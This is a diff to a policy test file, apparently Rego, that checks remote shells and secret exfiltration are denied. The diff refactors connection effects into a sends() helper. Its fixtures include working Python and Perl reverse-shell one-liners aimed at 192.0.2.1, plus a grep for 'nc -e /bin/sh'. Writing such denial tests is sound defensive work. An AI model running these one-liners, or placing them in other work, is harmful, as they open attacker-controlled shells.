@@ -21,7 +21,7 @@ test_remote_shells_denied[name] if {
 		"python": python(`import socket,os;s=socket.socket();s.connect(("192.0.2.1",1));os.dup2(s.fileno(),0);os.system("/bin/sh")`),
 		"perl": run("perl", ["-e", `use Socket;connect(S,sockaddr_in(1,inet_aton("192.0.2.1")));open(STDIN,">&S");exec("/bin/sh -i");`], {"known": true, "flags": ["-e"]}),
 		"a secret into a socket": object.union(
-			effect("connect", {"host": "192.0.2.1", "port": 80, "scheme": "", "url": "", "method": "send", "shell": true, "tags": []}),
+			sends("192.0.2.1", []),
 			{"call": {"kinds": ["connect", "read"], "tags": ["secret"]}},
 		),
 		"a script that is fetched, as root": effect("unknown", {
@@ -50,7 +50,7 @@ test_remote_shells_not_denied[name] if {
 		"python that runs a shell": python(`import subprocess; subprocess.call(["/bin/sh", "-c", "ls"])`),
 		"words about it": run("grep", ["-rn", "nc -e /bin/sh", "."], reader),
 		"a secret into this machine": object.union(
-			effect("connect", {"host": "127.0.0.1", "port": 80, "scheme": "", "url": "", "method": "send", "shell": true, "tags": ["loopback"]}),
+			sends("127.0.0.1", ["loopback"]),
 			{"call": {"kinds": ["connect", "read"], "tags": ["secret", "loopback"]}},
 		),
 		"a script of the call, as root": effect("unknown", {
